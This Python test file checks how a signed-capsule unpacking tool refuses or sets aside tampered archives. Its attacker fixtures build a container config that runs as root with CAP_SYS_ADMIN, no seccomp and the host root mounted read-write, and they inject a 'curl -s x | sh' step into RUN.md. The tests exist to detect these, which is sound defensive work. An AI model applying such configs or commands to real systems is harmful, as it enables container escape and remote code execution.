"""
A capsule from anybody, packed again by anybody: what is unsigned is neither believed nor left in its place.

The attackers remake all manifests. One has no key, one has their own key; one is a packer that the reader
trusts, whose files still do not replace what follows from the result.
"""

from __future__ import annotations

import datetime
import json
import os
import re
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from remake import manifests_anew, opened, signed_by, unsigned, written

from kit.capsule import bag
from kit.capsule.content import Word, open_capsule
from kit.capsule.receive import RECEIVED, OwnFacts, Voucher, receive
from kit.capsule.statement import CapsulePart
from kit.cli import run as speedrun
from kit.cli.capsule_text import received_document, tell_received
from kit.core.digest import files_under, sha256_bytes
from kit.core.errors import DigestMismatch, IntegrityError, SignatureError
from kit.core.facts import facts_root
from kit.result.keys import Trusted, load_or_create, trusted
from kit.result.revocations import new_revocation
from kit.values.software import Kit

GOLDEN = Path(__file__).parents[2] / "assets" / "golden"
CONFIG = "data/runc/config.json"
ERA = "data/images/tiny"
UNBOUND = (
    bag.RUN_MD, CONFIG, "data/image/index.json", "data/image/manifest.json", "data/image/oci-layout",
    f"{ERA}/digest", f"{ERA}/image.toml", f"{ERA}/lock.json",
)  # fmt: skip


def evil_config(data: bytes) -> bytes:
    """A container that owns the machine."""
    c = json.loads(data)
    c["process"]["user"] = {"uid": 0, "gid": 0}
    c["process"]["noNewPrivileges"] = False
    c["process"]["capabilities"] = {kind: ["CAP_SYS_ADMIN"] for kind in ("bounding", "effective")}
    c["linux"].pop("seccomp")
    c["linux"]["namespaces"] = [{"type": "mount"}]
    c["mounts"].append({"destination": "/mnt", "type": "bind", "source": "/", "options": ["rbind", "rw"]})
    return json.dumps(c).encode()


def evil_text(data: bytes) -> bytes:
    return data.replace(b"## 1. ", b"## 0. Get the verifier\n\n```sh\ncurl -s x | sh\n```\n\n## 1. ", 1)


EDITS = {
    bag.RUN_MD: evil_text,
    CONFIG: evil_config,
    f"{ERA}/image.toml": lambda data: data.replace(b'PATH = "', b'PATH = "/workspace:'),
    bag.INFO: lambda data: data.replace(b"Bagging-Date: ", b"Bagging-Date: 1"),
}


def edited(capsule, path):
    capsule[path] = EDITS.get(path, lambda data: data + b"\n")(capsule[path])
    manifests_anew(capsule)


@pytest.fixture
def refused(tmp_path, workshop):
    """Receive a capsule, expect a refusal, and that nothing is left of it."""

    def run(capsule, kind=IntegrityError, match=".", trusted=None, own=None):
        file = written(capsule, tmp_path / "x.tar")
        with pytest.raises(kind, match=match) as e:
            receive(file, tmp_path / "there" / "new", trusted or workshop.trusted, own or workshop.own)
        assert list((tmp_path / "there").iterdir()) == []
        return e.value

    return run


@pytest.fixture
def received(tmp_path, workshop):
    """Receive a capsule."""

    def run(capsule, trusted=None, own=None):
        file = written(capsule, tmp_path / "x.tar")
        return receive(file, tmp_path / "new", trusted or workshop.trusted, own or workshop.own)

    return run


@pytest.fixture
def knows_tiny(workshop):
    """The facts of a kit that has the tiny era."""
    return OwnFacts(workshop.own.records, workshop.places.images, workshop.own.kit)


def test_an_honest_capsule_is_left_as_it_was_packed(received, honest):
    packed = opened(honest)
    got = received(packed)
    assert got.accepted and not got.replaced and got.signed.trusted
    files = files_under(got.capsule.root)
    assert files == {n: sha256_bytes(d) for n, d in {**packed.tags, **packed.payload}.items()}
    assert open_capsule(got.capsule.root, Trusted(())).bundle.path == got.capsule.bundle.path


def test_a_packer_whose_key_was_revoked_is_not_trusted(received, refused, workshop, wheels, tmp_path, capsys):
    """The reader still has the packer's key; only the list of revoked keys names it."""
    packed = opened(workshop.pack(tmp_path / "revoked.tar", wheels=wheels))
    entry = new_revocation(workshop.packer.key_id, "laptop stolen", None, datetime.date(2026, 11, 28))
    known = replace(workshop.trusted, revoked=(entry,))
    got = received(packed, known)
    assert got.capsule.bundle.trusted and not got.signed.trusted and not got.accepted
    assert got.set_aside == tuple(w.name for w in wheels), "they would run without a container"
    tell_received(got)
    assert "packed by a REVOKED key (laptop stolen, revoked on 2026-11-28)" in capsys.readouterr().err
    assert received_document(got)["packer"]["revoked"]["reason"] == "laptop stolen"
    edited(packed, bag.RUN_MD)
    signed_by(load_or_create(workshop.places.keys))(packed)
    refused(packed, DigestMismatch, "the packer's key is untrusted", known)


def test_the_reader_says_who_vouches_for_each_part(received, honest, knows_tiny):
    got = received(opened(honest))
    words = {path: str(word) for path, word in got.vouchers.items()}
    assert [path for path, word in words.items() if word == "packer"] == [f"{ERA}/{n}" for n in
        ("digest", "image.toml", "lock.json")]  # fmt: skip
    same = {bag.RUN_MD, CONFIG, *(f"data/image/{n}" for n in ("index.json", "manifest.json", "oci-layout"))}
    assert {path for path, word in words.items() if word == "kit"} == same
    rest = set(words) - same - {f"{ERA}/{n}" for n in ("digest", "image.toml", "lock.json")}
    assert all(words[path] == "result" for path in rest)
    assert {"data/run/signer.pem", "data/run/guest.log", "data/records/03.toml"} < rest


def every_path(honest):
    capsule = opened(honest)
    return [*(n for n in capsule.tags if n not in (bag.MANIFEST, bag.TAG_MANIFEST)), *capsule.payload]


def test_whoever_has_no_key_can_change_no_file(refused, honest):
    """With the packer's statement left as it is, it no longer fits."""
    for path in every_path(honest):
        capsule = opened(honest)
        edited(capsule, path)
        if path == bag.BAGIT:
            continue  # the writer makes it
        e = refused(capsule)
        if path in UNBOUND and path.startswith("data/runc"):
            assert "differs from the file that the packer signed" in e.message


def test_whoever_has_no_key_cannot_pass_a_capsule_off_as_one_of_version_0_1(refused, honest):
    capsule = opened(honest)
    unsigned(capsule)
    refused(capsule, SignatureError, r"capsule\.json is missing")
    edited(capsule, CONFIG)
    refused(capsule, SignatureError, r"capsule\.json is missing")


def test_a_statement_without_its_key_or_a_key_without_its_statement_is_refused(refused, honest):
    for name in bag.SIGNED:
        capsule = opened(honest)
        del capsule.tags[name]
        refused(capsule)


@pytest.mark.parametrize("path", [bag.RUN_MD, CONFIG, "data/image/index.json", "data/image/manifest.json"])
def test_a_changed_file_signed_by_an_untrusted_packer_is_refused_by_name(refused, strangers, stranger, path):
    capsule = opened(strangers)
    edited(capsule, path)
    signed_by(stranger)(capsule)
    e = refused(capsule, DigestMismatch, "the packer's key is untrusted")
    assert path in e.message


def with_kit(version):
    return lambda claims: replace(claims, packer=replace(claims.packer, kit=Kit(version, None)))


@pytest.fixture(scope="module")
def stranger(workshop):
    """The key of who packed `strangers`."""
    return load_or_create(workshop.base / "stranger")


def test_the_refusal_says_what_a_changed_configuration_would_have_done(refused, strangers, stranger):
    capsule = opened(strangers)
    edited(capsule, CONFIG)
    signed_by(stranger)(capsule)
    message = refused(capsule).message
    for said in (
        "runs as user {'uid': 0, 'gid': 0}, expected uid 65532", "noNewPrivileges", "CAP_SYS_ADMIN",
        "mounts '/' at '/mnt', ['rbind', 'rw']", "no seccomp filter", "shares the pid namespace",
    ):  # fmt: skip
        assert said in message


def usable(root):
    return (root / bag.RUN_MD).read_bytes(), (root / CONFIG).read_bytes()


def kept(root):
    return usable(root / RECEIVED)


@pytest.mark.parametrize("path", [bag.RUN_MD, CONFIG])
def test_an_untrusted_packer_who_claims_another_kit_is_refused_and_replaces_nothing(
    received, strangers, stranger, path
):
    """Another version may make other files; this kit's own take their places all the same."""
    capsule = opened(strangers)
    plain = opened(strangers)
    edited(capsule, path)
    signed_by(stranger, with_kit("9"))(capsule)
    got = received(capsule)
    assert not got.accepted and got.capsule.bundle.trusted and not got.signed.trusted
    assert [f.path for f in got.replaced] == [path] and got.replaced[0].differences
    root = got.capsule.root
    assert (root / RECEIVED / path).read_bytes() == capsule[path]
    assert (root / CONFIG).read_bytes() == plain[CONFIG]
    assert b"Get the verifier" not in (root / bag.RUN_MD).read_bytes()
    assert not (root / bag.STATEMENT).exists()  # what it says is no longer so
    whole(root)
    assert open_capsule(root, Trusted(())).listed == bag.parse_manifest(
        (root / bag.MANIFEST).read_bytes(), "x"
    )


def whole(root):
    """The folder is a bag whose manifests fit."""
    tags = {name: (root / name).read_bytes() for name in bag.COVERED if (root / name).exists()}
    assert (root / bag.TAG_MANIFEST).read_bytes() == bag.tag_manifest(tags)
    files = {f"data/{name}": digest for name, digest in files_under(root / "data").items()}
    assert (root / bag.MANIFEST).read_bytes() == bag.manifest(files)
    assert bag.parse_oxum(tags[bag.INFO], "x").files == len(files)


@pytest.mark.parametrize("path", [bag.RUN_MD, CONFIG, "data/image/index.json"])
def test_what_a_trusted_packer_changed_is_reported_and_replaced(received, honest, workshop, path):
    capsule = opened(honest)
    edited(capsule, path)
    signed_by(load_or_create(workshop.places.keys))(capsule)
    got = received(capsule)
    assert got.accepted and [f.path for f in got.replaced] == [path]
    assert got.vouchers[path] is Voucher.PACKER
    assert (got.capsule.root / path).read_bytes() != capsule[path]
    assert (got.capsule.root / RECEIVED / path).read_bytes() == capsule[path]
    whole(got.capsule.root)


UNEXPECTED = (
    "data/evil.sh", "data/records/99.toml", "data/records/smoke.toml", "data/images/other/lock.json",
    f"{ERA}/Dockerfile", "data/kit/evil.sh", "data/kit/evil-1.0-py3-none-any.whl", "data/runc/hook.sh",
    "data/run/submission/evil.py", "data/run/intent.json", "data/image/blobs/sha256/" + "0" * 64,
    "data/image/repositories", "data/shards/extra.bin", "data/received/RUN.md",
)  # fmt: skip


@pytest.mark.parametrize("path", UNEXPECTED)
@pytest.mark.parametrize("who", ["nobody", "a stranger", "a trusted packer"])
def test_a_path_that_no_capsule_of_the_run_has_is_refused(
    refused, honest, strangers, stranger, workshop, path, who
):
    capsule = opened(strangers if who == "a stranger" else honest)
    capsule[path] = b"#!/bin/sh\n"
    manifests_anew(capsule)

    def listing(claims):
        parts = (*claims.parts, CapsulePart(path, Word.PACKER))
        return replace(claims, parts=tuple(sorted(parts, key=lambda part: part.path)))

    if who == "a stranger":
        signed_by(stranger, listing)(capsule)
    elif who == "a trusted packer":
        signed_by(load_or_create(workshop.places.keys), listing)(capsule)
    refused(capsule)


@pytest.mark.parametrize("path", [CONFIG, "data/run/signer.pem", "data/image/oci-layout", f"{ERA}/lock.json"])
def test_a_missing_file_is_refused_whoever_signs(refused, honest, workshop, path):
    capsule = opened(honest)
    del capsule.payload[path]
    manifests_anew(capsule)
    signed_by(load_or_create(workshop.places.keys))(capsule)
    e = refused(capsule)
    assert path in e.message


LIES = {
    "a packer's file as the result's": lambda c: replace(
        c, parts=tuple(replace(p, word=Word.RESULT) if p.path == CONFIG else p for p in c.parts)
    ),
    "a part less": lambda c: replace(c, parts=c.parts[:-1]),
    "a part that is not there": lambda c: replace(c, parts=(*c.parts, CapsulePart("data/zz", Word.PACKER))),
    "parts in another order": lambda c: replace(c, parts=c.parts[::-1]),
    "another run": lambda c: replace(c, run=replace(c.run, id="r99")),
    "another verdict": lambda c: replace(c, run=replace(c.run, verdict="missed")),
    "another bundle": lambda c: replace(c, run=replace(c.run, bundle_sha256="0" * 64)),
    "another key": lambda c: replace(c, packer=replace(c.packer, key_id="0" * 64)),
}


@pytest.mark.parametrize("lie", LIES)
def test_a_false_statement_is_refused_even_from_a_trusted_packer(refused, honest, workshop, lie):
    capsule = opened(honest)
    signed_by(load_or_create(workshop.places.keys), LIES[lie])(capsule)
    refused(capsule, match=r"capsule\.json")


def test_another_signed_document_is_no_statement(refused, honest):
    capsule = opened(honest)
    capsule.tags[bag.STATEMENT] = capsule["data/run/result.json"]
    capsule.tags[bag.PACKER] = capsule["data/run/signer.pem"]
    refused(capsule, SignatureError, r"capsule\.json: predicateType")


def test_the_statement_of_another_capsule_is_refused(refused, honest, workshop, wheels):
    other = opened(workshop.pack(workshop.base / "other.tar", wheels=wheels))
    capsule = opened(honest)
    capsule.tags |= {name: other.tags[name] for name in bag.SIGNED}
    refused(capsule, DigestMismatch, "differs from the file that the packer signed")


@pytest.mark.parametrize("own_era", [True, False])
def test_an_untrusted_packer_is_accepted_only_if_this_kit_has_all_that_was_added(
    received, strangers, knows_tiny, own_era
):
    got = received(opened(strangers), own=knows_tiny if own_era else None)
    assert got.accepted is own_era and not got.replaced and not got.signed.trusted
    assert (Voucher.PACKER in got.vouchers.values()) is not own_era


def test_a_trusted_packer_does_not_vouch_for_the_result(received, honest, workshop):
    got = received(opened(honest), trusted=Trusted((workshop.packer,)))
    assert got.signed.trusted and not got.accepted


ERAS = {
    "another environment": ("image.toml", b'LANG = "C.UTF-8"', b'LANG = "C.UTF-9"'),
    "another time": ("image.toml", b"2026-07-11T", b"2026-07-12T"),
    "another title": ("digest", b"  base", b"  evil"),
    "no era at all": ("image.toml", b'era = "tiny"', b'era = "huge"'),
}


@pytest.mark.parametrize("change", ERAS)
def test_an_era_that_is_not_that_of_the_image_is_refused_whoever_signs(refused, honest, workshop, change):
    """Its image.toml would otherwise choose the environment of a rerun."""
    capsule = opened(honest)
    name, old, new = ERAS[change]
    assert old in capsule[f"{ERA}/{name}"]
    capsule[f"{ERA}/{name}"] = capsule[f"{ERA}/{name}"].replace(old, new)
    lock = json.loads(capsule[f"{ERA}/lock.json"])
    lock["image_toml_sha256"] = sha256_bytes(capsule[f"{ERA}/image.toml"])
    fitting = (json.dumps(lock, indent=1) + "\n").encode()
    before = sha256_bytes(capsule[f"{ERA}/lock.json"]).encode()
    capsule[f"{ERA}/digest"] = capsule[f"{ERA}/digest"].replace(before, sha256_bytes(fitting).encode())
    capsule[f"{ERA}/lock.json"] = fitting
    manifests_anew(capsule)
    signed_by(load_or_create(workshop.places.keys))(capsule)
    assert ERA in refused(capsule).message


def test_wheels_of_an_untrusted_packer_get_no_usable_name(received, workshop, wheels, knows_tiny):
    file = workshop.pack(workshop.base / "strange-wheels.tar", keys=workshop.base / "stranger", wheels=wheels)
    got = received(opened(file), own=knows_tiny)
    assert not got.accepted and got.set_aside == tuple(w.name for w in wheels)
    root = got.capsule.root
    assert not (root / bag.KIT).exists()
    assert (root / RECEIVED / bag.KIT / wheels[0].name).read_bytes() == wheels[0].read_bytes()
    assert b"pip install" not in (root / bag.RUN_MD).read_bytes()
    whole(root)


def test_wheels_of_a_trusted_packer_stay_and_are_explained(received, workshop, wheels, capsys):
    got = received(opened(workshop.pack(workshop.base / "wheels.tar", wheels=wheels)))
    assert got.accepted and not got.set_aside and not got.replaced
    text = (got.capsule.root / bag.RUN_MD).read_text()
    assert "pip install --no-index --find-links capsule/data/kit 'speedrun-kit'" in text
    assert {got.vouchers[f"{bag.KIT}/{w.name}"] for w in wheels} == {Voucher.PACKER}
    tell_received(got)
    told = capsys.readouterr().err
    assert f"kit/ ({len(wheels)} wheels)" in told and not any(w.name in told for w in wheels)


def test_wheels_without_the_kit_are_refused(workshop, wheels):
    with pytest.raises(IntegrityError, match="expected exactly one wheel of speedrun-kit"):
        workshop.pack(workshop.base / "no-kit.tar", wheels=wheels[:1])


GOLDEN_KEYS = ["--keys", str(GOLDEN / "keys")]


def test_a_capsule_of_version_0_1_opens_with_a_warning_and_a_new_run_md(tmp_path, capsys):
    folder = tmp_path / "new"
    assert speedrun(["unpack", str(GOLDEN / "tiny.tar"), "--to", str(folder), *GOLDEN_KEYS]) == 0
    said = capsys.readouterr().err
    assert "full run of task 3: reached\n" in said
    assert "warning: packed by version 0.1: files that the result does not bind are not signed" in said
    assert (
        "vouched for by the packer only: images/tiny/digest, images/tiny/image.toml, images/tiny/lock.json"
        in said
    )
    before = opened(GOLDEN / "tiny.tar")
    assert (folder / RECEIVED / bag.RUN_MD).read_bytes() == before[bag.RUN_MD]
    assert (folder / bag.RUN_MD).read_text().startswith("# r03-20260101T000000Z-00000009: full run of task 3")
    whole(folder)


OLD = opened(GOLDEN / "tiny.tar")


@pytest.mark.parametrize("path", [n for n in (*OLD.tags, *OLD.payload) if n not in (
    bag.BAGIT, bag.MANIFEST, bag.TAG_MANIFEST)])  # fmt: skip
def test_no_file_of_a_capsule_of_version_0_1_can_be_changed(tmp_path, path, capsys):
    capsule = opened(GOLDEN / "tiny.tar")
    edited(capsule, path)
    file = written(capsule, tmp_path / "x.tar")
    assert speedrun(["unpack", str(file), "--to", str(tmp_path / "new"), *GOLDEN_KEYS]) == 4
    assert not (tmp_path / "new").exists()
    if path in (bag.RUN_MD, CONFIG):
        assert f"error: {path}: differs from what speedrun-kit packs" in capsys.readouterr().err


@pytest.mark.parametrize(
    "path", ["data/evil.sh", "data/kit/speedrun_kit-0.1.0-py3-none-any.whl", CONFIG + ".sh"]
)
def test_no_file_can_be_added_to_a_capsule_of_version_0_1(tmp_path, path):
    capsule = opened(GOLDEN / "tiny.tar")
    capsule[path] = b"x"
    manifests_anew(capsule)
    file = written(capsule, tmp_path / "x.tar")
    assert speedrun(["unpack", str(file), "--to", str(tmp_path / "new"), *GOLDEN_KEYS]) == 4


def test_an_unsigned_lock_that_differs_from_this_kits_is_refused(refused, tmp_path):
    """Where this kit has the era itself, version 0.1 had the same."""
    images = tmp_path / "images" / "tiny"
    images.mkdir(parents=True)
    for name in ("digest", "image.toml", "lock.json"):
        (images / name).write_bytes(OLD[f"{ERA}/{name}"])
    (images / "lock.json").write_bytes(OLD[f"{ERA}/lock.json"] + b"\n")
    facts = OwnFacts(facts_root() / "records", tmp_path / "images", Kit("0", None))
    keys = trusted(GOLDEN / "keys")
    refused(opened(GOLDEN / "tiny.tar"), DigestMismatch, "lock.json differs from this kit's", keys, facts)


def test_the_command_tells_packer_words_and_differences(tmp_path, strangers, stranger, workshop, capsys):
    capsule = opened(strangers)
    edited(capsule, CONFIG)
    signed_by(stranger, with_kit("9"))(capsule)
    file = written(capsule, tmp_path / "x.tar")
    keys = tmp_path / "keys"
    keys.mkdir(0o700)
    (keys / "signer.pem").write_bytes(workshop.signer.pem)
    argv = ["unpack", str(file), "--to", str(tmp_path / "new"), "--json", "--keys", str(keys)]
    assert speedrun(argv) == 1
    shown = capsys.readouterr()
    answer = json.loads(shown.out)
    assert answer["accepted"] is False and answer["trusted"] is True
    assert answer["packer"] == {
        "key_id": stranger.key_id, "trusted": False, "revoked": None, "kit": {"version": "9", "commit": None},
    }  # fmt: skip
    assert answer["parts"][CONFIG] == "packer" and answer["parts"]["data/run/result.json"] == "result"
    assert any("mounts '/' at '/mnt'" in text for text in answer["replaced"][CONFIG])
    assert "capsule: packed by an untrusted key with speedrun-kit 9" in shown.err
    assert (
        f"warning: {CONFIG} differs from what this kit writes; do not use it (now in received/)" in shown.err
    )


def test_run_md_of_an_unpacked_folder_checks_that_folder(tmp_path):
    folder = tmp_path / "x.unpacked"
    assert speedrun(["unpack", str(GOLDEN / "tiny.tar"), "--to", str(folder), *GOLDEN_KEYS]) == 0
    text = (folder / bag.RUN_MD).read_text()
    script = "".join(re.findall(r"^```sh\n(.*?)^```", text, re.MULTILINE | re.DOTALL))
    where = tmp_path / "empty"
    where.mkdir()
    env = {"PATH": os.environ["PATH"], "CAPSULE": str(folder)}
    done = subprocess.run(["/bin/sh", "-c", script], cwd=where, capture_output=True, text=True, env=env)
    said = ["bytes: OK", "Verified OK", "guest.log: OK", "stamps: OK", "submission: OK", *2 * ["image: OK"]]
    assert (done.returncode, done.stdout.splitlines(), done.stderr) == (0, said, "")
    assert 'tar -xf "$CAPSULE"' not in text  # what it holds was replaced
